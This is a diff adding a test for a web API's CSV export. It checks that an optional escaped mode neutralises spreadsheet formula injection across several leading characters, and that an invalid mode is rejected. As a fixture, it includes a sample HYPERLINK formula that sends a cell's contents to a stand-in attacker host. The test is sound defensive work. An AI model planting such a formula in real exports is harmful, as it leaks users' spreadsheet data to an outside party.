@@ -122,6 +122,45 @@ test('as CSV an export has a header, a flat profile, quotes where RFC 4180 wants
   assert.match(first ?? '', /,"a ""quoted"", comma\r\nline","text\/markdown","2026-01-15T[\d:]+Z",,"1",$/)
 })
 
+test('in an export for spreadsheets no text begins a formula, and the header says so', async () => {
+  const formula = '=HYPERLINK("http://evil.example?"&B2,"Maria")'
+  const texts: [text: string, escaped: string][] = [
+    [formula, `'${formula}`],
+    ['-5', "'-5"],
+    ['+44 1', "'+44 1"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ["'=kept", "''=kept"],
+    ["'plain", "'plain"],
+    ['a-b = c', 'a-b = c'],
+    ['" =1"', '\'" =1"'],
+    ['\uff1d1', "'\uff1d1"],
+    ['a;=1', "a;'=1"],
+  ]
+  for (const [i, [text]] of texts.entries()) {
+    const json = { username: `sheet${i}`, email: `sheet${i}@example.org`, password: 'correct horse' }
+    await post('/api/v1/users', { ...json, profile: { last_name: text, bio: `x\n${text}\ty\n- item` } })
+  }
+  const path = '/api/v1/users/export?role=normal&format=csv'
+  const plain = await download(path)
+  const escaped = await download(`${path}&formulas=escaped`)
+  assert.equal(escaped.text.split('\r\n')[0], `${plain.text.split('\r\n')[0]},formulas=escaped`)
+  // A record of several lines has quotes around every cell.
+  const cell = (text: string) => `,"${text.replaceAll('"', '""')}",`
+  for (const [text, without] of texts) {
+    assert.ok(escaped.text.includes(cell(without)), text)
+    assert.ok(plain.text.includes(cell(text)), text)
+  }
+  assert.doesNotMatch(escaped.text, /(^|[\r\n;\t]|,"?)[ "]*[=+@\uff1d-]/)
+  assert.match(escaped.text, /\n'- item",\r\n$/)
+  for (const list of ['documents/export?category=none&', 'categories/export?']) {
+    const { text } = await download(`/api/v1/${list}format=csv&formulas=escaped`)
+    assert.match(text, /^id,[^\r\n]*,formulas=escaped\r\n/)
+  }
+  const ndjson = await download('/api/v1/users/export?role=normal&formulas=escaped')
+  assert.equal(linesOf(ndjson.text)[0].profile.last_name, formula)
+  assertRefused(await download(`${path}&formulas=live`), 400, /'formulas' query parameter must be/)
+})
+
 test('an address alone chooses the form, for a link that a browser downloads', async () => {
   const browser = 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'
   for (const [query, type, ending] of [
